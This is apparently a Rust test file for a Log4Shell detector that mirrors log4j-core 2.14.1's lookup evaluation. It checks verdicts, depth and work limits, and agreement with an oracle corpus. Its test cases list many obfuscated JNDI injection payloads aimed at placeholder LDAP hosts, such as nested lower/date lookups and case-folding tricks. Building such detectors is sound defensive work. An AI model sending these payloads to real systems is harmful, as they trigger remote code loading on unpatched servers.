//! The table of the library's verdicts, the limits, and the relaxations.

use super::*;

fn remote(text: &str) -> bool {
    evaluate(text).verdict == Verdict::EffectiveRemote
}

#[test]
fn what_the_library_looks_up() {
    for text in [
        "$${jndi:ldap://x/a} ${",
        "${jndi:ldap://x/a} ${b",
        "${jndi:ldap://y/a}${b:-${b}}",
        "${lower:$}{jndi:ldap://x/a} ${",
        "${lower:$${jndi:ldap://x/a}}",
        "${LOWER:${JNDI:ldap://x/a}}",
        "${${a:\\-b:-jndi}:ldap://x/a}",
        "${jnd${upper:\u{131}}:ldap://x}",
        "${}${jndi:ldap://x}",
        "${${lower:J:-x}ndi:ldap://x}",
        "${${date:'j'}ndi:ldap://x}",
        "${${date:}jndi:ldap://x}",
        "${${::-j}${::-n}${::-d}${::-i}:${env:NO:-l}dap://x/a}",
    ] {
        assert!(remote(text), "{text}");
    }
}

#[test]
fn what_the_library_leaves_alone() {
    for text in [
        "$${jndi:ldap://x/a}",
        "$$${jndi:ldap://x/a}",
        "$$$${jndi:ldap://x/a}",
        "${b ${jndi:ldap://x/a}",
        "${${lower:jndi}:ldap://x/a",
        "${b:-${b}}${jndi:ldap://x/a}",
        "${lower:$}{jndi:ldap://x/a}",
        "${jndi:-ldap://x/a}",
        "${jnd${lower:\u{130}}:ldap://x}",
        "${jndi :ldap://x}",
        "${ jndi:ldap://x}",
        "${${}jndi:ldap://x}",
        "${${date:''}jndi:ldap://x}",
        "${${date:'j'n}di:ldap://x}",
        "${foo:jndi:ldap://x}",
        "${${lower:x:-j}ndi:ldap://x}",
        "${ctx:jndi:ldap://x}",
        "${base64:JHtqbmRpOmxkYXA6Ly94L2F9}",
        "jndi:ldap://x/a",
        "$ {jndi:ldap://x/a}",
    ] {
        assert!(!remote(text), "{text}");
    }
}

#[test]
fn keys_and_exceptions() {
    let evaluation = evaluate("${jndi:\\-ldap:-x}");
    assert_eq!(evaluation.keys, ["ldap"]);
    assert_eq!(evaluation.verdict, Verdict::EffectiveLocal);
    let evaluation = evaluate("${jndi:ldap://y/a}${b:-${b}}");
    assert_eq!((evaluation.keys, evaluation.raised), (vec!["ldap://y/a".to_owned()], true));
    let evaluation = evaluate("${b:-${b}}${jndi:ldap://x/a}");
    assert_eq!((evaluation.keys.len(), evaluation.raised), (0, true));
    let evaluation = evaluate("${jndi:ldap://${env:A:-h}/${lower:Q}}");
    assert_eq!(evaluation.keys, ["ldap://h/q"]);
}

#[test]
fn verdicts_below_remote() {
    for (text, verdict) in [
        ("${jndi:java:comp/env/x}", "effective/local"),
        ("${jndi:mail/Session}", "effective/local"),
        ("${jndi:ldap://x/a", "attempt/truncated"),
        ("${b ${jndi:ldap://x/a}", "attempt/truncated"),
        ("$${jndi:ldap://x/a}", "attempt/escaped"),
        ("${ jndi :ldap://x/a}", "attempt/spaced"),
        ("${base64:JHtqbmRpOmxkYXA6Ly94L2F9}", "attempt/base64"),
        ("${jndi:-ldap://x/a}", "benign"),
        ("${PATH} and ${HOME:-/root}", "benign"),
        ("if ($a == \"${b}\") { ldap jndi rmi }", "benign"),
    ] {
        assert_eq!(evaluate(text).verdict.as_str(), verdict, "{text}");
    }
}

#[test]
fn depth_is_bounded_and_never_benign() {
    let nested =
        |depth: usize| format!("{}jndi:ldap://x/a{}", "${".repeat(depth), "}".repeat(depth));
    // The library itself evaluates 1,600 and overflows its stack at 3,000.
    assert_eq!(evaluate(&nested(1_600)).verdict, Verdict::EffectiveRemote);
    assert_eq!(evaluate(&nested(EVAL_DEPTH_MAX - 1)).verdict, Verdict::EffectiveRemote);
    let over = evaluate(&nested(EVAL_DEPTH_MAX));
    assert_eq!(over.verdict, Verdict::Attempt(Why::OverLimit));
    assert!(over.steps < EVAL_WORK_MAX, "stopped by its depth: {}", over.steps);
}

#[test]
fn work_is_bounded_and_never_benign() {
    // The square of the depth, and again for each relaxation, without a key to be found.
    let nested = |depth: usize| format!("{}a{}", "${".repeat(depth), "}".repeat(depth));
    assert_eq!(evaluate(&nested(400)).verdict, Verdict::Benign);
    let evaluation = evaluate(&nested(1_000));
    assert_eq!(evaluation.verdict, Verdict::Attempt(Why::OverLimit));
    assert!(evaluation.steps < EVAL_WORK_MAX + 100_000, "{}", evaluation.steps);
    // Texts that share a limit share what is left of it.
    let mut spent = EVAL_WORK_MAX;
    let verdict = evaluate_within("${a} ${b}", &mut spent).verdict;
    assert_eq!(verdict, Verdict::Attempt(Why::OverLimit));
}

#[test]
fn unclosed_counts_only_what_is_open() {
    let count = |text: &str| unclosed(&text.chars().collect::<Vec<_>>());
    assert_eq!([count("${a ${b"), count("} ${a"), count("${a}"), count("{a")], [2, 1, 0, 0]);
}

/// Goal: no difference from the library. Method: messages with the verdict that log4j-core 2.14.1
/// itself gave (`cargo xtask oracle log4j --write-corpus`), every difference ever found among them.
#[test]
fn the_verdicts_of_the_library_itself() {
    let corpus = include_str!("../../corpus/oracle.tsv");
    let mut fired = 0;
    for line in corpus.lines() {
        let (verdict, text) = line.split_once('\t').unwrap();
        let ours = evaluate(text).verdict;
        let fires = matches!(ours, Verdict::EffectiveRemote | Verdict::EffectiveLocal);
        assert_eq!(fires, verdict == "fires", "{text}");
        fired += usize::from(fires);
    }
    assert!(fired >= 1_000 && corpus.lines().count() >= 2 * fired - 100, "{fired}");
}
